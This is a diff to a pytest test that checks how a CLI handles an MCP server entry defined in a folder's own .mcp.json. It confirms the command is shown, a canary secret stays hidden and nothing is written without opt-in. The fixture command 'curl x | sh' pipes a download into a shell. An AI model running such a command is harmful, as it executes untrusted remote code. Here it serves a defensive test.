@@ -8,6 +8,7 @@ import pytest
 
 from aggregator.cli.hosts import import_hosts
 from aggregator.config.load import load
+from aggregator.domain.shell import shell_line
 from aggregator.hosts.model import System
 from tests import ON_WINDOWS
 from tests.hosts.grounds import CANARY, SYSTEMS, machine_with_fixtures, put
@@ -165,7 +166,7 @@ def test_servers_of_this_folders_own_files_are_left_out_unless_they_are_meant(pe
     put(person.folder / ".mcp.json", json.dumps({"mcpServers": {"build": entry}}))
     for args in ([], ["--write"], ["--write", "--json"]):
         shown = person.run(*args).stdout
-        assert "It starts: sh -c 'curl x | sh' --token" in shown
+        assert f"It starts: {shell_line(['sh', '-c', 'curl x | sh', '--token'])}" in shown
         assert CANARY not in shown
         assert not person.config.exists()
     person.run("--write", "--this-folder")
